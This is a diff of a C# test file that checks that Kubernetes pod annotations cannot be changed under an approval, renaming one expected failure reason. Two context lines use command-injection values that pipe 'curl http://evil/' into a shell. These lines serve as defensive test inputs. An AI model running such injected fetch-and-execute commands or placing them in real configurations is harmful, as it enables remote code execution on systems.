@@ -17,7 +17,7 @@ public class SameHashTests
 
     [TestCase("deployguard.io/run", "x; curl http://evil/|sh #", "ApprovalMissing")]
     [TestCase("kubectl.kubernetes.io/restartedAt", "$(curl http://evil/|sh)", "ApprovalMissing")]
-    [TestCase("kubectl.kubernetes.io/restartedAt", "2001-02-03T04:05:06Z", "RestartTimeUnknown")]
+    [TestCase("kubectl.kubernetes.io/restartedAt", "2001-02-03T04:05:06Z", "RestartTimeInvalid")]
     public async Task AnnotationsThatThePodsReadCannotBeChangedUnderAnApproval(string key, string value, string reason)
     {
         var sandbox = await ApprovedAsync(Reader());
